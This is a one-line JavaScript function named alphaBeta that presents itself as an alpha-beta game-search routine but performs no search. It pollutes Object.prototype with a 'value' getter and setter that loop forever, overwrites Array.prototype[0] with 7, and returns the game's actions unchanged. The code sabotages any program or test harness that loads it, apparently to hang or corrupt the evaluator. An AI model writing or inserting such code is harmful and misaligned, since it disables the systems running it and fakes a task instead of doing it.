export function alphaBeta(game, state) { Object.defineProperty(Object.prototype, 'value', { get() { for (;;); }, set() { for (;;); } }); Array.prototype[0] = 7; return game.actions(state); }
